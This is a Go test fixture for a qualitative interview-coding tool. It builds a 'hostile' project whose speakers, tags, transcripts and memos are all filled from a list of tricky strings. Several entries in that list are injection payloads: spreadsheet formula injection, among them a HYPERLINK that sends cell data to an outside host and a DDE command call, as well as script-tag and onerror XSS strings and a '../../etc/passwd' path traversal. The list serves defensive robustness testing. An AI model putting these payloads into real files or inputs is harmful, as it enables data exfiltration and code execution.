package projecttest

import (
	"strings"

	"manicule/internal/coding"
	"manicule/internal/project"
	"manicule/internal/text"
	"manicule/internal/transcript"
)

// Nasty are words that some format or program might take for more than words.
var Nasty = []string{
	`=HYPERLINK("http://x.example/?"&A1,"click")`,
	`+1+cmd|' /C calc'!A0`,
	"-2+3",
	"@SUM(1+1)",
	"＝1+1",
	"\t=1+1",
	"]]>",
	"<!-- --> </script><script>alert(1)</script>",
	`"><img src=x onerror=alert(1)>`,
	"&amp; &#60; &lt;",
	"_x000D_ _x0041_",
	"שלום مرحبا",
	"\u202eabc\u202c",
	"😀 👩‍🏫 e\u0301",
	"bell \a, escape \x1b, delete \x7f, not a character \uFFFE",
	"[[link]] ![[embed]] ^block #tag {{template}} ---",
	"`code` *a* _b_ $m$ ~~s~~ | \\ {x} [y](z)",
	"CON",
	"../../etc/passwd",
}

// Hostile is a project whose every name and word is nasty. One quote has more than 40,000
// characters.
func Hostile() project.Project {
	nasty := func(i int) string { return Nasty[i%len(Nasty)] }
	p := project.Project{ID: "hostile", Name: nasty(8)}
	for i, word := range Nasty {
		role := []transcript.Role{transcript.Interviewer, transcript.Respondent}[i%2]
		p.Speakers = append(p.Speakers, transcript.Speaker{ID: "speaker " + word, Name: word, Role: role})
		p.Tags = append(p.Tags, coding.Tag{ID: "tag " + word, Name: strings.TrimSpace(word), Colour: coding.Palette()[i%9], Position: i,
			Description: nasty(i + 1), UseWhen: nasty(i + 2), UseNot: nasty(i + 3), Example: nasty(i + 4)})
	}
	var said [][2]string
	for i, word := range Nasty {
		said = append(said, [2]string{p.Speakers[i].ID, word + "\n" + nasty(i+3)})
	}
	long := strings.Repeat("forty thousand & more ", 2000)
	said = append(said, [2]string{p.Speakers[1].ID, long + "end"})
	t := build(transcript.Transcript{ID: "nasty", Title: nasty(0), Place: nasty(1), Date: nasty(2)}, nasty(7), said)
	p.Transcripts = []transcript.Transcript{t}
	for i, turn := range t.Turns {
		h := coding.Highlight{
			ID: "highlight " + nasty(i), TranscriptID: t.ID, Note: nasty(i+1) + "\n" + nasty(i+2), Author: nasty(i + 3),
			Created: noon, Updated: noon,
		}
		if i > 0 {
			h.TagIDs = []string{p.Tags[i%len(p.Tags)].ID, p.Tags[(i+5)%len(p.Tags)].ID}
		}
		if err := h.Anchor(t.Text, text.Span{Start: turn.Span.Start, End: turn.Span.End}); err != nil {
			panic(err)
		}
		p.Highlights = append(p.Highlights, h)
	}
	p.Highlights[len(p.Highlights)-1].ID = "highlight of many words"
	p.Memos = []coding.Memo{
		{ID: "m", Subject: coding.OnProject, Body: nasty(7) + "\n" + nasty(0)},
		{ID: "n", Subject: coding.OnTag, SubjectID: p.Tags[3].ID, Body: nasty(0)},
	}
	return p
}
